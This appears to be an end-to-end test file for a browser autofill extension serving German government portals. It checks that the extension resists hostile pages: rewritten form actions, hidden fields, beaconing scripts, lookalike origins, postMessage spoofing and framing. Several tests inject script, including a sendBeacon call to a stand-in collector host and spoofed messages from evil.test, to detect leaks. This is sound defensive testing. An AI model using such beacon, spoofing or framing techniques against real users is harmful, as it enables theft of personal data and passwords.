import { expect, it } from 'vitest';
import { expectStays, recognisedAs, type E2eBrowser, type E2eTab } from './e2e-browser.ts';
import { proveInPage } from '../../bench/classify-in-page.ts';
import { CANARY, CANARY_PASSWORD, ORIGIN } from './hostile-canary.ts';

export interface HostileContext {
  readonly browser: E2eBrowser;
  readonly page: E2eTab;
}

/** The canary values with consent for the portal that serves the hostile pages, and a tab for them. */
export async function setUpHostile(browser: E2eBrowser): Promise<HostileContext> {
  await browser.admin.send('vault.setup', { passphrase: 'Korrekt Pferd Batterie Heftklammer' });
  for (const [attributeId, value] of Object.entries(CANARY))
    expect(await browser.admin.send('attribute.set', { attributeId, value })).toMatchObject({ ok: true });
  // Consent is granted from the confirm window only; a confirm page opened as a tab counts as one.
  expect(
    await browser.asConfirm((confirm) =>
      confirm.send('consent.grant', {
        portalId: 'elternbeitraege',
        origin: 'https://elternbeitraege.test',
        attributeIds: Object.keys(CANARY),
      }),
    ),
  ).toMatchObject({ ok: true });
  return { browser, page: await browser.newTab() };
}

const inputs = async (page: E2eTab): Promise<Record<string, string>> =>
  page.evaluate<Record<string, string>>(
    `Object.fromEntries([...document.querySelectorAll('main input, main textarea')].map((e) => [e.name, e.value]))`,
  );

/** Every value a page holds, in its own fields, open shadow roots and same-origin frames, joined for a canary search. */
const everything = (page: E2eTab): Promise<string> =>
  page.evaluate<string>(`(() => {
  const values = [];
  const walk = (root) => {
    for (const e of root.querySelectorAll('input, textarea, select')) values.push(e.name + '=' + e.value);
    for (const e of root.querySelectorAll('*')) if (e.shadowRoot) walk(e.shadowRoot);
    for (const f of root.querySelectorAll('iframe')) { try { if (f.contentDocument) walk(f.contentDocument); } catch {} }
  };
  walk(document);
  return values.join('&');
})()`);

/** Opens `url`, waits until the page is recognised, asks for a fill as the popup would, returns the inputs. */
async function fill({ browser, page }: HostileContext, url: string): Promise<{ response: unknown; values: Record<string, string> }> {
  await page.goto(url);
  await recognisedAs(browser, `${ORIGIN}/*`, 'form');
  const tabId = await browser.tabIdOf(`${ORIGIN}/*`);
  const response = await browser.admin.send('fill.request', { tabId });
  return { response, values: await inputs(page) };
}

const collected = (browser: E2eBrowser): string => JSON.stringify(browser.world.server.requests.filter((r) => r.host === 'collector.test'));

/** The variants of r2-invisible.html, each hiding one field a different way (the fixture says how). */
const INVISIBLE_VARIANTS = 23;

/** docs/SECURITY.md §5 cases that concern filling, the same in both browsers. */
export function hostileScenario(context: () => HostileContext): void {
  it('T07: fills nothing into a form that posts to another origin', async () => {
    const { values } = await fill(context(), `${ORIGIN}/hostile/t07-foreign-action`);
    expect(Object.values(values).join('')).toBe('');
  });

  it('T06: fills nothing into a form that posts over http', async () => {
    const { values } = await fill(context(), `${ORIGIN}/hostile/t06-http-action`);
    expect(Object.values(values).join('')).toBe('');
  });

  it('T07: stops the submission and clears the values when a script rewrites the action after the fill', async () => {
    const { browser, page } = context();
    const { values } = await fill(context(), `${ORIGIN}/hostile/t07-rewrite`);
    expect(values.vorname).toBe(CANARY.givenNames);
    // The page's script rewrites the action 50 ms after the fill's input events.
    await expect
      .poll(() => page.evaluate<string>(`document.getElementById('f').action`), { timeout: 20_000 })
      .toBe('https://collector.test/c');
    await page.click('#senden');
    await expect.poll(async () => (await page.values('#vorname'))[0], { timeout: 20_000 }).toBe('');
    await expectStays(() => page.url(), `${ORIGIN}/hostile/t07-rewrite`);
    expect(collected(browser)).not.toContain('Zzyzx');
  });

  it('T09: fills only the visible field, never the ten hidden ones', async () => {
    const { values } = await fill(context(), `${ORIGIN}/hostile/t09-hidden`);
    expect(values.email).toBe(CANARY.email);
    const hidden = Object.entries(values).filter(([name]) => name !== 'email');
    expect(hidden.filter(([, value]) => value !== '')).toEqual([]);
    expect(hidden).toHaveLength(10);
  });

  it('T12: a script that beacons every input after the fill gets only the approved visible fields, and the log names exactly those', async () => {
    const { browser } = context();
    const { values } = await fill(context(), `${ORIGIN}/hostile/t12-beacon`);
    expect(values.vorname).toBe(CANARY.givenNames);
    const beacons = () => browser.world.server.requests.filter((r) => r.host === 'collector.test' && r.body.includes('vorname'));
    await expect.poll(() => beacons().length, { timeout: 20_000 }).toBeGreaterThan(0);
    expect(JSON.parse(beacons().at(-1)?.body ?? '')).toEqual({
      vorname: CANARY.givenNames,
      nachname: CANARY.familyName,
      email: CANARY.email,
      geburtsdatum: '',
    });
    const audit = await browser.admin.send('audit.list', { portalId: 'elternbeitraege' });
    expect((audit.value as { entries: { attributeIds: string[] }[] }).entries[0]?.attributeIds).toEqual([
      'givenNames',
      'familyName',
      'email',
    ]);
  });

  it('T08: fills the top document only, never a cross-origin frame', async () => {
    const { page } = context();
    const { values } = await fill(context(), `${ORIGIN}/hostile/t08-frames`);
    expect(values.vorname).toBe(CANARY.givenNames);
    expect((await page.frameValues('https://ads.test/', 'input')).join('')).toBe('');
  });

  it('second round, invisible fields: the proof sees every one of 23 ways to hide a field, both below the fold and in view', async () => {
    const { page } = context();
    await page.goto(`${ORIGIN}/hostile/r2-invisible`);
    for (const inView of [false, true]) {
      const proof = await proveInPage(page, { inView });
      // The three controls are visible (a floating label over an empty field, a field in an open shadow root).
      expect(
        proof
          .filter((p) => p.visible)
          .map((p) => p.name)
          .sort(),
        `inView=${inView}`,
      ).toEqual(['email', 'plz', 'telefon']);
      // Every hidden variant is classified (so a fill would want it) and refused.
      expect(
        proof.filter((p) => !p.visible),
        `inView=${inView}`,
      ).toHaveLength(INVISIBLE_VARIANTS);
    }
  });

  it('second round, invisible fields: a fill writes only the three visible fields, scrolled to the top or to the middle', async () => {
    for (const scroll of [0, 1400]) {
      const { browser, page } = context();
      await page.goto(`${ORIGIN}/hostile/r2-invisible`);
      await recognisedAs(browser, `${ORIGIN}/*`, 'form');
      await page.evaluate(`window.scrollTo(0, ${scroll})`);
      expect(await browser.admin.send('fill.request', { tabId: await browser.tabIdOf(`${ORIGIN}/*`) })).toMatchObject({
        ok: true,
        value: { status: 'filled' },
      });
      const values = await everything(page);
      expect(values).toContain(`email=${CANARY.email}`);
      expect(values).toContain(`telefon=${CANARY.phone}`);
      expect(values).toContain(`plz=${CANARY.postalCode}`);
      const leaked = values.split('&').filter((pair) => !/^(email|telefon|plz)=/.test(pair) && !pair.endsWith('='));
      expect(leaked, `scrolled to ${scroll}`).toEqual([]);
    }
  });

  it('second round, just in time: fields a page reveals on a real Shift key or pointer press stay empty; the three the citizen saw are filled', async () => {
    const { browser, page } = context();
    const gestures: [string, () => Promise<void>][] = [
      // The Alt/Shift a citizen presses before Alt+Shift+F.
      ['Shift key', () => page.press('Shift')],
      // A press outside the page's own form, as on the in-page hint.
      ['pointer press', () => page.clickAt(790, 590)],
    ];
    for (const [name, gesture] of gestures) {
      await page.goto(`${ORIGIN}/hostile/r2-reveal`);
      await recognisedAs(browser, `${ORIGIN}/*`, 'form');
      await gesture();
      expect(await page.evaluate<number>(`document.querySelectorAll('.later.shown').length`), name).toBe(3);
      // Long enough for the page's change to be classified and recorded as visible (after the gesture).
      await expectStays(() => page.evaluate<number>(`document.querySelectorAll('.later.shown').length`), 3);
      expect(await browser.admin.send('fill.request', { tabId: await browser.tabIdOf(`${ORIGIN}/*`) }), name).toMatchObject({
        ok: true,
        value: { status: 'filled' },
      });
      const values = await inputs(page);
      expect([values.vorname, values.nachname, values.email], name).toEqual([CANARY.givenNames, CANARY.familyName, CANARY.email]);
      expect([values.geburtsdatum, values.strasse, values.telefon], name).toEqual(['', '', '']);
      // Never written at all (not written and then withdrawn): the log names only the three.
      const audit = (await browser.admin.send('audit.list', { portalId: 'elternbeitraege' })).value as {
        entries: { attributeIds: string[] }[];
      };
      expect(audit.entries[0]?.attributeIds, name).toEqual(['givenNames', 'familyName', 'email']);
    }
  });

  it('second round, hidden after the write: a field the page fades or moves on its input event is cleared and named in the log', async () => {
    const { browser, page } = context();
    await page.goto(`${ORIGIN}/hostile/r2-self-hide`);
    await recognisedAs(browser, `${ORIGIN}/*`, 'form');
    expect(await browser.admin.send('fill.request', { tabId: await browser.tabIdOf(`${ORIGIN}/*`) })).toMatchObject({
      ok: true,
      value: { status: 'filled', filled: 1 },
    });
    expect(await inputs(page)).toEqual({ vorname: CANARY.givenNames, strasse: '', telefon: '' });
    const audit = (await browser.admin.send('audit.list', { portalId: 'elternbeitraege' })).value as {
      entries: { attributeIds: string[] }[];
    };
    expect(audit.entries[0]?.attributeIds).toEqual(expect.arrayContaining(['givenNames', 'street', 'houseNumber', 'phone']));
  });

  it('second round, child frames: srcdoc, about:blank and same-origin frames get nothing; the top document does', async () => {
    const { browser, page } = context();
    await page.goto(`${ORIGIN}/hostile/r2-frames`);
    await recognisedAs(browser, `${ORIGIN}/*`, 'form');
    await expect
      .poll(() => page.evaluate<number>(`document.getElementById('same').contentDocument?.querySelectorAll('input').length ?? 0`), {
        timeout: 20_000,
      })
      .toBe(11);
    expect(await browser.admin.send('fill.request', { tabId: await browser.tabIdOf(`${ORIGIN}/*`) })).toMatchObject({
      ok: true,
      value: { status: 'filled', filled: 1 },
    });
    const values = await everything(page);
    expect(values).toContain(`email=${CANARY.email}`);
    expect(values.replace(`email=${CANARY.email}`, '')).not.toMatch(/Zzyzx|zzyzx|12\.08\.1964|51147/);
  });

  it("second round, passwords: only the login form's password field gets it; no textarea, hint field or second form", async () => {
    const { browser, page } = context();
    expect(
      await browser.admin.send('credential.save', { origin: ORIGIN, username: 'erika@example.de', password: CANARY_PASSWORD }),
    ).toMatchObject({ ok: true });
    const before = browser.world.server.requests.length;
    const allRequests = (b: E2eBrowser): string => JSON.stringify(b.world.server.requests.slice(before));
    await page.goto(`${ORIGIN}/hostile/r2-login`);
    await recognisedAs(browser, `${ORIGIN}/*`, 'login');
    // The page reports any field other than the login form's password that ever holds the password.
    await page.evaluate(`document.addEventListener('input', (e) => {
      if (e.target.id !== 'password' && String(e.target.value).includes(${JSON.stringify(CANARY_PASSWORD)})) navigator.sendBeacon('https://collector.test/leak', e.target.id);
    }, true)`);
    expect(await browser.admin.send('signin.request', { tabId: await browser.tabIdOf(`${ORIGIN}/*`) })).toMatchObject({
      ok: true,
      value: { status: 'submitted' },
    });
    await page.waitForUrl(`${ORIGIN}/login`);
    expect(browser.world.server.requests.slice(before).filter((r) => r.path === '/leak')).toEqual([]);
    const login = browser.world.server.requests.filter((r) => r.path === '/login' && r.method === 'POST').at(-1);
    expect(login?.body).toContain('password=' + encodeURIComponent(CANARY_PASSWORD));
    expect(allRequests(browser).split(CANARY_PASSWORD).length - 1).toBe(1);
    await browser.admin.send('credential.list', {}).then(async (listed) => {
      for (const c of (listed.value as { credentials: { id: string }[] }).credentials)
        await browser.admin.send('credential.delete', { id: c.id });
    });
  });

  it('second round, passwords: a login form that would send with GET (method=get, no method, formmethod=get) gets no password and is not submitted', async () => {
    const { browser, page } = context();
    expect(
      await browser.admin.send('credential.save', { origin: ORIGIN, username: 'erika@example.de', password: CANARY_PASSWORD }),
    ).toMatchObject({ ok: true });
    const before = browser.world.server.requests.length;
    const allRequests = (b: E2eBrowser): string => JSON.stringify(b.world.server.requests.slice(before));
    for (const variant of ['get', 'nomethod', 'formmethod']) {
      await page.goto(`${ORIGIN}/hostile/r2-login-${variant}`);
      await recognisedAs(browser, `${ORIGIN}/*`, 'login');
      const answer = await browser.admin.send('signin.request', { tabId: await browser.tabIdOf(`${ORIGIN}/*`) });
      expect(answer, variant).not.toMatchObject({ ok: true, value: { status: 'submitted' } });
      expect((await page.values('#password'))[0], variant).toBe('');
      await expectStays(() => page.url(), `${ORIGIN}/hostile/r2-login-${variant}`);
      expect(allRequests(browser), variant).not.toContain(CANARY_PASSWORD);
      // The page may still try: a click on its own button sends no password with GET.
      await page.click('button[type=submit]');
      await expect.poll(() => page.url(), { timeout: 20_000 }).toMatch(/\/login\?/);
      expect(allRequests(browser), variant).not.toContain(CANARY_PASSWORD);
    }
    await browser.admin.send('credential.list', {}).then(async (listed) => {
      for (const c of (listed.value as { credentials: { id: string }[] }).credentials)
        await browser.admin.send('credential.delete', { id: c.id });
    });
  });

  it('second round, the submit guard: form.submit() and a capturing listener that stops the event both send nothing we filled elsewhere', async () => {
    const { browser, page } = context();
    for (const via of ['submit', 'stopper']) {
      const before = browser.world.server.requests.length;
      const sentNow = (): string => JSON.stringify(browser.world.server.requests.slice(before).filter((r) => r.host === 'collector.test'));
      await page.goto(`${ORIGIN}/hostile/r2-submit?via=${via}`);
      await recognisedAs(browser, `${ORIGIN}/*`, 'form');
      expect(await browser.admin.send('fill.request', { tabId: await browser.tabIdOf(`${ORIGIN}/*`) })).toMatchObject({
        ok: true,
        value: { status: 'filled' },
      });
      if (via === 'submit') {
        // form.submit() goes out, with our entries taken out of its data set.
        await page.waitForUrl('https://collector.test/c');
        expect(sentNow()).toContain('marker=r2-submit');
      } else {
        await expectStays(() => page.url(), `${ORIGIN}/hostile/r2-submit?via=stopper`);
        expect(await inputs(page)).toMatchObject({ vorname: '', nachname: '' });
      }
      expect(sentNow(), via).not.toMatch(/Zzyzx/);
    }
  });

  it('second round, the submit guard: a filled field faded out before the submission stops it, is cleared and logged as withdrawn', async () => {
    const { browser, page } = context();
    await page.goto(`${ORIGIN}/hostile/r2-submit?via=hide`);
    await recognisedAs(browser, `${ORIGIN}/*`, 'form');
    expect(await browser.admin.send('fill.request', { tabId: await browser.tabIdOf(`${ORIGIN}/*`) })).toMatchObject({
      ok: true,
      value: { status: 'filled', filled: 2 },
    });
    await expect.poll(async () => (await inputs(page)).vorname, { timeout: 20_000 }).toBe('');
    expect((await inputs(page)).nachname).toBe(CANARY.familyName);
    await expectStays(() => page.url(), `${ORIGIN}/hostile/r2-submit?via=hide`);
    await expect
      .poll(
        async () =>
          (
            (await browser.admin.send('audit.list', { portalId: 'elternbeitraege' })).value as {
              entries: { outcome: string; attributeIds: string[] }[];
            }
          ).entries[0],
        { timeout: 20_000 },
      )
      .toMatchObject({ outcome: 'withdrawn', attributeIds: ['givenNames'] });
  });

  it('T05: refuses a lookalike origin (no script there, and the background says no)', async () => {
    const { browser, page } = context();
    await page.goto('https://id.bund.de.evil.test/de/login');
    // Without host access the extension sees no URL for that tab; the lookalike is the tab without one.
    const tabId = await browser.inExtension<number>(
      `(globalThis.browser ?? globalThis.chrome).tabs.query({}).then((tabs) => tabs.find((t) => t.url === undefined || t.url.includes('evil'))?.id ?? -1)`,
    );
    expect(tabId).toBeGreaterThanOrEqual(0);
    expect(await browser.admin.send('fill.request', { tabId })).toMatchObject({ ok: false, error: { code: 'ORIGIN_NOT_ALLOWED' } });
    expect(await browser.admin.send('signin.request', { tabId })).toMatchObject({ ok: false, error: { code: 'ORIGIN_NOT_ALLOWED' } });
  });

  it('T13/T15/T16: ignores postMessage spoofing, gives pages no way to message it, and cannot be framed by a site', async () => {
    const { browser, page } = context();
    await page.goto(`${ORIGIN}/antrag/schritt-1`);
    await recognisedAs(browser, `${ORIGIN}/*`, 'form');
    await page.evaluate(`(() => {
      for (const type of ['fill.apply', 'FILL', 'EXPORT', 'UNLOCK', 'consent.grant']) {
        window.postMessage({ v: 1, id: 'x', type, payload: { attributes: { givenNames: 'X' }, kinds: ['givenNames'], origin: location.origin, submit: false } }, '*');
      }
    })()`);
    await expectStays(async () => (await page.values('#as_vorname'))[0], '');
    // T15: no externally_connectable, so a page has no runtime.sendMessage to reach us with.
    expect(await page.evaluate('[typeof globalThis.browser, typeof globalThis.chrome?.runtime?.sendMessage].join()')).toBe(
      'undefined,undefined',
    );
    await page.goto('https://evil.test/');
    await page.evaluate(`(() => {
      const frame = document.createElement('iframe');
      frame.id = 'framed';
      frame.src = ${JSON.stringify(`${browser.extensionBase}confirm/index.html`)};
      document.body.append(frame);
    })()`);
    await expect.poll(() => page.frameUrls(), { timeout: 20_000 }).toHaveLength(1);
    const loaded = async (): Promise<boolean> => {
      const inside = await page.evaluate<string>(
        `(() => { try { return document.getElementById('framed').contentDocument?.body?.innerText ?? ''; } catch { return ''; } })()`,
      );
      return (
        ((await page.frameUrls()).some((url) => url.includes('confirm/index.html') && !url.startsWith('about:')) && inside !== '') ||
        inside.includes('Daten übermitteln')
      );
    };
    await expectStays(loaded, false);
  });

  it('bad input: a page flooding messages and mutations gets no fill by itself, and the extension stays responsive', async () => {
    const { browser, page } = context();
    await page.goto(`${ORIGIN}/hostile/flood`);
    await recognisedAs(browser, `${ORIGIN}/*`, 'form');
    await expectStays(async () => Object.values(await inputs(page)).join(''), '');
    const tabId = await browser.tabIdOf(`${ORIGIN}/*`);
    const floodBefore = Number(await page.evaluate<string>(`document.body.getAttribute('data-n')`));
    expect(await browser.admin.send('page.current', { tabId })).toMatchObject({ ok: true });
    expect(await browser.admin.send('fill.request', { tabId })).toMatchObject({ ok: true, value: { status: 'filled' } });
    expect((await page.values('#vorname'))[0]).toBe(CANARY.givenNames);
    // Counted, not timed: the flood went on while the extension answered and filled.
    const floodAfter = Number(await page.evaluate<string>(`document.body.getAttribute('data-n')`));
    expect(floodBefore).toBeGreaterThan(1_000);
    expect(floodAfter).toBeGreaterThan(floodBefore);
  });

  it('T11, second round: a site that opens a portal page and then navigates itself to the portal stays "another site", with or without a referrer', async () => {
    const { browser } = context();
    for (const policy of ['strict-origin-when-cross-origin', 'no-referrer']) {
      const page = await browser.newTab('https://evil.test/');
      const target = `https://service.justiz.de/beratungshilfe/antrag/persoenliche-daten/name?policy=${policy}`;
      await page.evaluate(`(() => {
        const meta = document.createElement('meta');
        meta.name = 'referrer';
        meta.content = ${JSON.stringify(policy)};
        document.head.append(meta);
        window.open(${JSON.stringify(target)}, '_blank');
      })()`);
      await expect.poll(() => browser.tabIdOf(`${target}*`), { timeout: 20_000 }).toBeGreaterThanOrEqual(0);
      const opened = await browser.tabIdOf(`${target}*`);
      // The opener becomes a portal page itself: same origin as the page it opened.
      await page.goto('https://service.justiz.de/beratungshilfe/antrag/persoenliche-daten/plz');
      // And the opened page moves on within the portal (a redirect, a click): still the same tab.
      await browser.inExtension(
        `(globalThis.browser ?? globalThis.chrome).tabs.update(${opened}, { url: 'https://service.justiz.de/beratungshilfe/antrag/persoenliche-daten/name?next=1' }).then(() => true)`,
      );
      const reported = async (): Promise<boolean> =>
        JSON.stringify((JSON.parse(await browser.sessionStorage()) as Record<string, unknown>)[`page:${opened}`] ?? null).includes(
          'service.justiz.de',
        );
      // Control: the opener tab, now showing a portal page the citizen navigated to, is reported.
      const openerTab = await browser.tabIdOf('https://service.justiz.de/beratungshilfe/antrag/persoenliche-daten/plz');
      await expect
        .poll(
          async () => JSON.stringify((JSON.parse(await browser.sessionStorage()) as Record<string, unknown>)[`page:${openerTab}`] ?? null),
          { timeout: 20_000 },
        )
        .toContain('service.justiz.de');
      await expectStays(reported, false);
      expect(await browser.admin.send('fill.request', { tabId: opened })).not.toMatchObject({ ok: true, value: { status: 'filled' } });
      await browser.inExtension(`(globalThis.browser ?? globalThis.chrome).tabs.remove(${opened}).then(() => true)`);
      await page.close();
    }
  });

  it('T11: a sweep of framed and popped-up portal pages from another site gets no script, message or fill', async () => {
    const { browser, page } = context();
    await page.goto('https://evil.test/');
    await page.evaluate(`(() => {
      for (let i = 0; i < 5; i++) {
        const frame = document.createElement('iframe');
        frame.src = 'https://service.justiz.de/beratungshilfe/antrag/persoenliche-daten/name?i=' + i;
        document.body.append(frame);
      }
      window.open('https://service.justiz.de/beratungshilfe/antrag/persoenliche-daten/plz', '_blank');
    })()`);
    await expect
      .poll(async () => (await page.frameUrls()).filter((u) => u.startsWith('https://service.justiz.de/')).length, { timeout: 20_000 })
      .toBe(5);
    const popupTab = await (async () => {
      await expect.poll(() => browser.tabIdOf('https://service.justiz.de/*'), { timeout: 20_000 }).toBeGreaterThanOrEqual(0);
      return browser.tabIdOf('https://service.justiz.de/*');
    })();
    // Control: the same kind of page opened as a top-level tab by the citizen is reported; once it is,
    // a report of the swept pages would have come too.
    const control = await browser.newTab('https://service.justiz.de/beratungshilfe/antrag/persoenliche-daten/name');
    const controlTab = await browser.inExtension<number>(
      `(globalThis.browser ?? globalThis.chrome).tabs.query({ url: 'https://service.justiz.de/beratungshilfe/antrag/persoenliche-daten/name' }).then((tabs) => tabs[0]?.id ?? -1)`,
    );
    const reported = async (): Promise<string[]> =>
      Object.entries(JSON.parse(await browser.sessionStorage()) as Record<string, unknown>)
        .filter(([key, value]) => key.startsWith('page:') && JSON.stringify(value).includes('service.justiz.de'))
        .map(([key]) => key);
    await expect.poll(reported, { timeout: 20_000 }).toEqual([`page:${controlTab}`]);
    await expectStays(reported, [`page:${controlTab}`]);
    expect(popupTab).not.toBe(controlTab);
    await control.close();
  });
}
